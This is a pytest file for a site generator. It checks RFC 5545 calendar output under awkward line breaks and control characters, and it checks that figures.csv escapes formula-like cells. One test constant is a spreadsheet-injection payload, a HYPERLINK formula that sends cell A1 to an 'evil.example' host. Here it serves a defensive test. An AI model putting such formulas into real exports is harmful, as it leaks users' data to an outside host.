"""Files people download and open in other programs: calendar files (.ics) and the
figures as CSV and JSON.

Event text may hold line breaks of every kind (LF, CRLF, a lone CR, a YAML block scalar,
the separators some readers also break lines at) and control characters: the build writes
calendar files that keep to RFC 5545 (text escaped, CRLF line ends, lines folded at 75
octets, no control character) and read back to the same text, line breaks as LF.

A figures.csv cell that a spreadsheet would run as a formula (starting =, +, -, @, tab or
CR) starts with a single quote instead, as OWASP recommends; plain numbers such as -12.5
stay numbers, and figures.json keeps the text as it is.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from pathlib import Path

import pytest
from icalendar import Calendar

from .helpers import cswork

EVENTS_YAML = r'''events:
  - id: newline-2026-12
    title: "Evening session\nfor social workers"
    kind: agency to permanent
    starts: 2026-12-03 18:00
    ends: 2026-12-03 19:30
    place: "Town Hall\nMarket Square"
    summary: "Line one.\nLine two."
    booking_url: https://www.castlebrook.example.org/events/a/
  - id: crlf-2026-12
    title: "Open evening\r\nat the hub"
    kind: recruitment event
    starts: 2026-12-04 18:00
    ends: 2026-12-04 19:30
    place: "Riverside hub\r\nMill Lane"
    summary: "First.\r\nSecond."
    booking_url: https://www.castlebrook.example.org/events/b/
  - id: lone-cr-2026-12
    title: "Drop-in\rsession"
    kind: recruitment event
    starts: 2026-12-05 18:00
    ends: 2026-12-05 19:30
    place: "Library\rRoom 2"
    summary: "One.\rTwo."
    booking_url: https://www.castlebrook.example.org/events/c/
  - id: block-2026-12
    title: Block scalars, folded; long enough to fold at seventy-five octets, with café café café
    kind: career conversation
    starts: 2026-12-06 18:00
    ends: 2026-12-06 19:30
    place: |-
      Town Hall
      Committee Room 1
    summary: |
      First line of a block, long enough to be folded: café café café café café café café café.
      Second line of a block.
    booking_url: https://www.castlebrook.example.org/events/d/
  - id: separators-2026-12
    title: "Coffee\u2028and questions"
    kind: career conversation
    starts: 2026-12-07 18:00
    ends: 2026-12-07 19:30
    place: "Hub\u2029Room\x1f 3\x07"
    summary: "One\x85two\x0bthree\x0cfour\x1cfive\x1b."
    booking_url: https://www.castlebrook.example.org/events/e/
'''
# What each event reads as in a calendar: title, place, summary.
EXPECTED = {
    "newline-2026-12": ("Evening session\nfor social workers", "Town Hall\nMarket Square", "Line one.\nLine two."),
    "crlf-2026-12": ("Open evening\nat the hub", "Riverside hub\nMill Lane", "First.\nSecond."),
    "lone-cr-2026-12": ("Drop-in\nsession", "Library\nRoom 2", "One.\nTwo."),
    "block-2026-12": ("Block scalars, folded; long enough to fold at seventy-five octets, with café café café",
                      "Town Hall\nCommittee Room 1",
                      "First line of a block, long enough to be folded: café café café café café café café "
                      "café.\nSecond line of a block."),
    "separators-2026-12": ("Coffee\nand questions", "Hub\nRoom 3", "One\ntwo\nthree\nfour\nfive."),
}

BOOKING = {event_id: f"https://www.castlebrook.example.org/events/{letter}/"
           for event_id, letter in zip(EXPECTED, "abcde", strict=True)}


def _assert_rfc5545_lines(data: bytes, name: str) -> None:
    assert data.endswith(b"\r\n"), f"{name}: does not end with CRLF"
    lines = data.split(b"\r\n")[:-1]
    for line in lines:
        assert b"\r" not in line and b"\n" not in line, f"{name}: a line break that is not CRLF in {line!r}"
        assert len(line) <= 75, f"{name}: a line of {len(line)} octets: {line!r}"
        assert not [c for c in line.decode("utf-8") if unicodedata.category(c) == "Cc" and c != "\t"], \
            f"{name}: a control character in {line!r}"
    # No character any reader could take for a line break (NEL, U+2028, vertical tab...).
    assert data.decode("utf-8").splitlines() == [line.decode("utf-8") for line in lines], name


@pytest.mark.slow
def test_event_text_with_line_breaks_makes_valid_calendar_files(site: Path):
    (site / "data" / "events.yaml").write_text(EVENTS_YAML, encoding="utf-8")
    check = cswork("check", str(site))
    assert check.returncode == 0, check.stderr
    result = cswork("build", str(site))
    assert result.returncode == 0, result.stderr
    events = site / "output" / "events"
    for event_id, (title, place, summary) in EXPECTED.items():
        data = (events / f"{event_id}.ics").read_bytes()
        _assert_rfc5545_lines(data, event_id)
        cal = Calendar.from_ical(data)
        (vevent,) = cal.walk("VEVENT")
        assert str(vevent["SUMMARY"]) == title
        assert str(vevent["LOCATION"]) == place
        url = BOOKING[event_id]
        assert str(vevent["URL"]) == url
        assert str(vevent["DESCRIPTION"]) == f"{summary}\n\nBook: {url}"
        assert str(cal["X-WR-CALNAME"]) == " ".join(title.split())  # a calendar's name is one line
    everything = (events / "all.ics").read_bytes()
    _assert_rfc5545_lines(everything, "all.ics")
    parsed = {str(v["UID"]).split("@")[0]: str(v["SUMMARY"]) for v in Calendar.from_ical(everything).walk("VEVENT")}
    assert parsed == {event_id: title for event_id, (title, _, _) in EXPECTED.items()}


@pytest.mark.parametrize("text, expected", [
    ("a\r\nb", "a\nb"), ("a\rb", "a\nb"), ("a\nb", "a\nb"), ("a\x0bb\x0cc", "a\nb\nc"),
    ("a\x85b\u2028c\u2029d", "a\nb\nc\nd"), ("a\x1c\x1d\x1eb", "a\n\n\nb"), ("tab\tkept", "tab\tkept"),
    ("bell\x07 esc\x1b del\x7f c1\x9f nul\x00", "bell esc del c1 nul"),
])
def test_calendar_text_has_one_kind_of_line_break_and_no_control_characters(text: str, expected: str):
    from cswork_site.pages.calendar import calendar_text

    assert calendar_text(text) == expected


# --- figures.csv and figures.json -----------------------------------------------------

SNAPSHOT = "data/metrics/2026-09-30.yaml"
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")'
# The strings of a snapshot that reach figures.csv are its source and each figure's own
# source; every other column (figure, label, unit, shown_as, note) is written by cswork.
SOURCES = {"headcount": "+SUM(1,2)", "fte": "-2+3", "vacancy_rate": "@(1+2)", "agency_rate": "-12.5"}


def _set_sources(site: Path) -> None:
    f = site / SNAPSHOT
    text = f.read_text(encoding="utf-8")
    old = "source: Castlebrook HR workforce dashboard\n"
    assert text.startswith(old) or f"\n{old}" in text, "the demo snapshot changed; update this test"
    text = text.replace(old, f"source: '{HYPERLINK}'\n", 1)
    for name, source in SOURCES.items():
        assert f"\n{name}:\n" in text, f"{name} not in {SNAPSHOT}; update this test"
        text = text.replace(f"\n{name}:\n", f"\n{name}:\n  source: '{source}'\n", 1)
    f.write_text(text, encoding="utf-8")


@pytest.mark.slow
def test_figures_csv_cells_cannot_run_as_formulas(site: Path):
    _set_sources(site)
    result = cswork("build", str(site))
    assert result.returncode == 0, result.stderr
    out = site / "output" / "improvement"
    rows = list(csv.DictReader(io.StringIO((out / "figures.csv").read_text(encoding="utf-8"), newline="")))
    newest = {r["figure"]: r for r in rows if r["as_at"] == "2026-09-30"}
    assert newest["headcount"]["source"] == "'+SUM(1,2)"
    assert newest["fte"]["source"] == "'-2+3"
    assert newest["vacancy_rate"]["source"] == "'@(1+2)"
    assert newest["agency_rate"]["source"] == "-12.5"  # a plain number stays a number
    assert newest["turnover_rate"]["source"] == "'" + HYPERLINK
    for row in rows:
        for cell in row.values():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a plain number may start so
        if row["value"]:
            float(row["value"])  # values stay numbers
    figures = json.loads((out / "figures.json").read_text(encoding="utf-8"))["figures"]
    by_name = {f["figure"]: f for f in figures if f["as_at"] == "2026-09-30"}
    assert by_name["turnover_rate"]["source"] == HYPERLINK  # JSON is never run: kept as it is
    assert by_name["fte"]["source"] == "-2+3"
    assert all(f["value"] is None or isinstance(f["value"], float) for f in figures)


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("-inf", "'-inf"), ("-", "'-"),
    ("-3.5", "-3.5"), ("+2", "+2"), ("-1e3", "-1e3"), ("-.5", "-.5"), ("plain text", "plain text"),
    ("3.5 = 7/2", "3.5 = 7/2"), (-3.5, -3.5), (None, None),
])
def test_spreadsheet_safe_cells(cell, written):
    from cswork_site.plugin.generator import spreadsheet_safe

    assert spreadsheet_safe(cell) == written
